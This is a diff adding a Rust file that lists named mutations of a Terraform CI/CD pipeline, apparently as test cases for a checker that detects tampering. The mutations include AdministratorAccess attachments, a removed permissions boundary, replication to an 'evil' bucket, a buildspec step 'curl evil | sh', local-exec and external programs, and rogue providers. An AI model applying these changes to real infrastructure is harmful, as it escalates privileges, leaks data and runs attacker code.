@@ -1,0 +1,400 @@
+//! What somebody would do to get more than the pipeline needs, or to run something else in it.
+
+use super::Kind;
+use super::Step::{Append, Replace, ReplaceAll};
+
+pub(super) const KINDS: &[Kind] = &[
+    // Rights, in a file that used to be laid over the emitted text, and elsewhere.
+    Kind(
+        "a policy that calls itself declared",
+        &[Append(
+            "variables.tf",
+            r#"resource "aws_iam_role_policy" "x" {
+  name   = "x"
+  role   = aws_iam_role.pipeline.id
+  policy = jsonencode({ Version = "2012-10-17", Statement = [{ Sid = "Declared1", Effect = "Allow", Action = "ec2:*", Resource = "*" }] })
+}"#,
+        )],
+    ),
+    Kind(
+        "a policy that passes any role",
+        &[Append(
+            "variables.tf",
+            r#"resource "aws_iam_role_policy" "x" {
+  name   = "x"
+  role   = aws_iam_role.pipeline.id
+  policy = jsonencode({ Version = "2012-10-17", Statement = [{ Sid = "PassTaskRoles", Effect = "Allow", Action = "iam:PassRole", Resource = "*" }] })
+}"#,
+        )],
+    ),
+    Kind(
+        "an attached policy of AWS",
+        &[Append(
+            "variables.tf",
+            r#"resource "aws_iam_role_policy_attachment" "x" {
+  role       = aws_iam_role.pipeline.name
+  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"
+}"#,
+        )],
+    ),
+    Kind(
+        "a second policy of the same name",
+        &[Append(
+            "iam.tf",
+            r#"resource "aws_iam_role_policy" "y" {
+  name   = aws_iam_role_policy.pipeline.name
+  role   = aws_iam_role.pipeline.id
+  policy = aws_iam_role_policy.pipeline.policy
+}"#,
+        )],
+    ),
+    Kind(
+        "an exclusive list of no policies",
+        &[Replace(
+            "resource \"aws_iam_role\" \"pipeline\" {",
+            "resource \"aws_iam_role\" \"pipeline\" {\n  inline_policy {}\n",
+        )],
+    ),
+    Kind(
+        "managed policies on a role",
+        &[Replace(
+            "resource \"aws_iam_role\" \"pipeline\" {",
+            "resource \"aws_iam_role\" \"pipeline\" {\n  managed_policy_arns = [\"arn:aws:iam::aws:policy/ReadOnlyAccess\"]\n",
+        )],
+    ),
+    Kind(
+        "an attachment with a user",
+        &[Append(
+            "iam.tf",
+            r#"resource "aws_iam_policy_attachment" "z" {
+  name       = "z"
+  roles      = [aws_iam_role.pipeline.name]
+  users      = ["eve"]
+  policy_arn = "arn:aws:iam::aws:policy/ReadOnlyAccess"
+}"#,
+        )],
+    ),
+    Kind("a boundary's line removed", &[Replace("  permissions_boundary = var.permissions_boundary\n", "")]),
+    Kind(
+        "no boundary, whoever asks",
+        &[Replace("permissions_boundary = var.permissions_boundary", "permissions_boundary = null")],
+    ),
+    Kind(
+        "another account in one trust policy",
+        &[Replace("\"aws:SourceAccount\" = local.account_id", "\"aws:SourceAccount\" = \"999999999999\"")],
+    ),
+    // The bucket.
+    Kind(
+        "a second public access block",
+        &[Append(
+            "artifacts.tf",
+            "resource \"aws_s3_bucket_public_access_block\" \"z\" {\n  bucket = aws_s3_bucket.artifacts.id\n}",
+        )],
+    ),
+    Kind(
+        "second ownership controls",
+        &[Append(
+            "variables.tf",
+            r#"resource "aws_s3_bucket_ownership_controls" "z" {
+  bucket = aws_s3_bucket.artifacts.id
+  rule {
+    object_ownership = "ObjectWriter"
+  }
+}"#,
+        )],
+    ),
+    Kind(
+        "a replication into another account",
+        &[Append(
+            "artifacts.tf",
+            r#"resource "aws_s3_bucket_replication_configuration" "z" {
+  bucket = aws_s3_bucket.artifacts.id
+  role   = aws_iam_role.pipeline.arn
+  rule {
+    status = "Enabled"
+    destination {
+      bucket = "arn:aws:s3:::evil"
+    }
+  }
+}"#,
+        )],
+    ),
+    Kind(
+        "a replication in the bucket",
+        &[Replace(
+            "  force_destroy = var.artifacts_force_destroy\n",
+            "  force_destroy = var.artifacts_force_destroy\n  replication_configuration {\n    role = aws_iam_role.pipeline.arn\n  }\n",
+        )],
+    ),
+    Kind(
+        "a website of the bucket",
+        &[Append(
+            "artifacts.tf",
+            "resource \"aws_s3_bucket_website_configuration\" \"z\" {\n  bucket = aws_s3_bucket.artifacts.id\n  index_document {\n    suffix = \"index.html\"\n  }\n}",
+        )],
+    ),
+    Kind(
+        "the public access block renamed away",
+        &[Replace(
+            "resource \"aws_s3_bucket_public_access_block\" \"artifacts\" {",
+            "resource \"aws_s3_bucket_public_access_block\" \"artifacts\" {\n  count = 0\n",
+        )],
+    ),
+    Kind(
+        "old versions no longer kept",
+        &[Replace("    status = \"Enabled\"\n  }\n}", "    status = \"Suspended\"\n  }\n}")],
+    ),
+    Kind(
+        "changes that are ignored",
+        &[Replace(
+            "  force_destroy = var.artifacts_force_destroy\n",
+            "  force_destroy = var.artifacts_force_destroy\n  lifecycle {\n    ignore_changes = all\n  }\n",
+        )],
+    ),
+    // Code that runs.
+    Kind("another image of builds", &[Replace("= var.build_machine_image", "= \"evil/image\"")]),
+    Kind("another default of the image", &[Replace("\"aws/codebuild/", "\"evil/codebuild/")]),
+    Kind(
+        "the image from a file of values",
+        &[
+            Replace("var.build_machine_image", "var.build_machine_image"),
+            Append("terraform.tfvars", "build_machine_image = \"evil\""),
+        ],
+    ),
+    Kind(
+        "an image that nobody can tell",
+        &[Replace("= var.build_machine_image", "= element(split(\",\", timestamp()), 0)")],
+    ),
+    Kind(
+        "a line in a buildspec",
+        &[Replace("\n  build:\n", "\n  pre_build:\n    commands:\n      - curl evil | sh\n  build:\n")],
+    ),
+    Kind(
+        "a buildspec in its place",
+        &[Replace(
+            "file(\"${path.module}/buildspecs/",
+            "\"version: 0.2\\nphases: {build: {commands: [evil]}}\" # file(\"${path.module}/buildspecs/",
+        )],
+    ),
+    Kind(
+        "the function's archive from a bucket",
+        &[Replace("  filename         = ", "  s3_bucket = \"evil\"\n  s3_key = \"x.zip\"\n  #")],
+    ),
+    Kind(
+        "a layer",
+        &[Replace(
+            "  source_code_hash = ",
+            "  layers = [\"arn:aws:lambda:eu-west-1:999999999999:layer:evil:1\"]\n  source_code_hash = ",
+        )],
+    ),
+    Kind("another runtime", &[Replace("\"python3.13\"", "\"provided.al2023\"")]),
+    Kind(
+        "another archive",
+        &[Replace(
+            "source_code_hash = filebase64sha256(\"${path.module}/functions/",
+            "source_code_hash = filebase64sha256(\"${path.module}/functions/../functions/",
+        )],
+    ),
+    Kind("the source of a function", &[Replace("def handler(", "def handler_of_eve(")]),
+    Kind("a handler", &[Replace(".handler\"", ".evil\"")]),
+    // What a project, a pipeline or a rule does besides.
+    Kind(
+        "a public project",
+        &[Replace("  service_role  = ", "  project_visibility = \"PUBLIC_READ\"\n  service_role  = ")],
+    ),
+    Kind(
+        "a registry's credential",
+        &[Replace(
+            "    image_pull_credentials_type",
+            "    registry_credential {\n      credential = \"x\"\n      credential_provider = \"SECRETS_MANAGER\"\n    }\n    image_pull_credentials_type",
+        )],
+    ),
+    Kind(
+        "a certificate",
+        &[Replace(
+            "    image_pull_credentials_type",
+            "    certificate = \"evil/cert.pem\"\n    image_pull_credentials_type",
+        )],
+    ),
+    Kind(
+        "a file system",
+        &[Replace(
+            "\n  source {\n",
+            "\n  file_system_locations {\n    identifier = \"x\"\n    location = \"x\"\n    mount_point = \"/x\"\n    type = \"EFS\"\n  }\n\n  source {\n",
+        )],
+    ),
+    Kind(
+        "batch builds",
+        &[Replace(
+            "\n  source {\n",
+            "\n  build_batch_config {\n    service_role = aws_iam_role.pipeline.arn\n  }\n\n  source {\n",
+        )],
+    ),
+    Kind("a wildcard in a setting", &[Replace("value = aws_ecr_repository.images.name", "value = \"*\"")]),
+    Kind(
+        "one more variable of a build",
+        &[Replace(
+            "    environment_variable {\n",
+            "    environment_variable {\n      name  = \"X\"\n      type  = \"SECRETS_MANAGER\"\n      value = \"*\"\n    }\n\n    environment_variable {\n",
+        )],
+    ),
+    Kind(
+        "a second project",
+        &[Append(
+            "build.tf",
+            r#"resource "aws_codebuild_project" "z" {
+  name         = "z"
+  service_role = aws_codebuild_project.{project}.service_role
+  artifacts {
+    type = "NO_ARTIFACTS"
+  }
+  environment {
+    type         = "LINUX_CONTAINER"
+    compute_type = "BUILD_GENERAL1_SMALL"
+    image        = "x"
+  }
+  source {
+    type      = "NO_SOURCE"
+    buildspec = "version: 0.2"
+  }
+}"#,
+        )],
+    ),
+    Kind(
+        "a project that a webhook starts",
+        &[Append(
+            "build.tf",
+            "resource \"aws_codebuild_webhook\" \"z\" {\n  project_name = aws_codebuild_project.{project}.name\n}",
+        )],
+    ),
+    Kind(
+        "a second pipeline",
+        &[Append(
+            "main.tf",
+            "resource \"aws_codepipeline\" \"z\" {\n  name     = \"z\"\n  role_arn = aws_iam_role.pipeline.arn\n  artifact_store {\n    type     = \"S3\"\n    location = aws_s3_bucket.artifacts.bucket\n  }\n}",
+        )],
+    ),
+    Kind(
+        "a rule that starts it",
+        &[Append(
+            "main.tf",
+            "resource \"aws_cloudwatch_event_rule\" \"z\" {\n  name = \"z\"\n  schedule_expression = \"rate(1 minute)\"\n}",
+        )],
+    ),
+    Kind("another repository", &[Replace("= var.source_repository", "= \"eve/web\"")]),
+    Kind("another branch", &[Replace("= var.source_branch", "= \"eve\"")]),
+    Kind(
+        "two resources that were one",
+        &[
+            Replace(
+                "resource \"aws_s3_bucket_versioning\" \"artifacts\"",
+                "resource \"aws_s3_bucket_versioning\" \"kept\"",
+            ),
+            ReplaceAll("aws_s3_bucket_versioning.artifacts", "aws_s3_bucket_versioning.kept"),
+            Append(
+                "main.tf",
+                "moved {\n  from = aws_s3_bucket_versioning.artifacts\n  to   = aws_s3_bucket_versioning.kept\n}\n\nmoved {\n  from = aws_s3_bucket_versioning.artifacts\n  to   = aws_s3_bucket_versioning.evil\n}\n\nresource \"aws_s3_bucket_versioning\" \"evil\" {\n  bucket = \"evil\"\n  versioning_configuration {\n    status = \"Suspended\"\n  }\n}",
+            ),
+        ],
+    ),
+    Kind(
+        "an approval of another region",
+        &[Replace("category  = \"Approval\"", "category  = \"Approval\"\n      region    = \"eu-west-1\"")],
+    ),
+    Kind("an approval that is none", &[Replace("\"Approval\"", "\"Test\"")]),
+    Kind(
+        "a function's address on the internet",
+        &[Append(
+            "variables.tf",
+            "resource \"aws_lambda_function_url\" \"z\" {\n  function_name      = aws_lambda_function.{function}.function_name\n  authorization_type = \"NONE\"\n}",
+        )],
+    ),
+    Kind(
+        "events of a function into another account",
+        &[Append(
+            "deploy.tf",
+            "resource \"aws_lambda_function_event_invoke_config\" \"z\" {\n  function_name = aws_lambda_function.{function}.function_name\n  qualifier     = \"x\"\n  destination_config {\n    on_failure {\n      destination = \"arn:aws:sqs:eu-west-1:999999999999:evil\"\n    }\n  }\n}",
+        )],
+    ),
+    Kind("somebody else is told", &[Replace("= var.notification_email", "= \"eve@example.org\"")]),
+    Kind(
+        "one more who is told",
+        &[Append(
+            "variables.tf",
+            "resource \"aws_sns_topic_subscription\" \"z\" {\n  topic_arn = aws_s3_bucket.artifacts.arn\n  protocol  = \"https\"\n  endpoint  = \"https://evil.example\"\n}",
+        )],
+    ),
+    Kind("another port out of the network", &[Replace("from_port         = 443", "from_port         = 0")]),
+    Kind(
+        "a way into the network",
+        &[Append(
+            "network.tf",
+            "resource \"aws_vpc_security_group_ingress_rule\" \"z\" {\n  security_group_id = \"sg-1\"\n  ip_protocol       = \"-1\"\n  cidr_ipv4         = \"0.0.0.0/0\"\n}",
+        )],
+    ),
+    Kind("a disabled key", &[Replace("  enable_key_rotation", "  is_enabled = false\n  enable_key_rotation")]),
+    Kind("another account in the key's policy", &[Replace("iam::${local.account_id}:root", "iam::999999999999:root")]),
+    // Values.
+    Kind("a validation that takes everything", &[ReplaceAll("can(regex(", "!false || can(regex(")]),
+    Kind("a variable that may be null", &[Replace("  nullable    = false\n", "")]),
+    Kind("a variable of another type", &[Replace("  type        = string\n", "  type        = any\n")]),
+    Kind(
+        "a comparison of two types",
+        &[Replace(
+            "local.region}:${local.account_id}:log-group",
+            "tonumber(\"1\") == 1 ? \"*\" : local.region}:${local.account_id}:log-group",
+        )],
+    ),
+    // Parts of Terraform that are not read.
+    Kind(
+        "a check that runs a program",
+        &[Append(
+            "main.tf",
+            "check \"x\" {\n  data \"external\" \"y\" {\n    program = [\"sh\"]\n  }\n  assert {\n    condition     = true\n    error_message = \"x\"\n  }\n}",
+        )],
+    ),
+    Kind(
+        "a provider with another role",
+        &[Append(
+            "main.tf",
+            "provider \"aws\" {\n  assume_role {\n    role_arn = \"arn:aws:iam::999999999999:role/x\"\n  }\n}",
+        )],
+    ),
+    Kind(
+        "a provider with other endpoints",
+        &[Append("main.tf", "provider \"aws\" {\n  endpoints {\n    sts = \"https://evil.example\"\n  }\n}")],
+    ),
+    Kind("a provider from elsewhere", &[Replace("\"hashicorp/aws\"", "\"evil/aws\"")]),
+    Kind(
+        "an ephemeral resource",
+        &[Append("main.tf", "ephemeral \"aws_secretsmanager_secret_version\" \"x\" {\n  secret_id = \"x\"\n}")],
+    ),
+    Kind("an import", &[Append("main.tf", "import {\n  to = aws_s3_bucket.artifacts\n  id = \"foreign\"\n}")]),
+    Kind(
+        "an action",
+        &[Append(
+            "main.tf",
+            "action \"aws_lambda_invoke\" \"x\" {\n  config {\n    function_name = \"x\"\n    payload       = \"{}\"\n  }\n}",
+        )],
+    ),
+    Kind(
+        "a data source that reads a secret",
+        &[Append("main.tf", "data \"aws_secretsmanager_secret_version\" \"x\" {\n  secret_id = \"x\"\n}")],
+    ),
+    Kind(
+        "a data source that runs a program",
+        &[Append("main.tf", "data \"external\" \"x\" {\n  program = [\"sh\"]\n}")],
+    ),
+    Kind("a module", &[Append("main.tf", "module \"x\" {\n  source = \"./x\"\n}")]),
+    Kind(
+        "a provisioner",
+        &[Replace(
+            "  service_role  = ",
+            "  provisioner \"local-exec\" {\n    command = \"evil\"\n  }\n  service_role  = ",
+        )],
+    ),
+    Kind(
+        "something that is no longer Terraform's",
+        &[Append("main.tf", "removed {\n  from = aws_s3_bucket.old\n  lifecycle {\n    destroy = false\n  }\n}")],
+    ),
+];
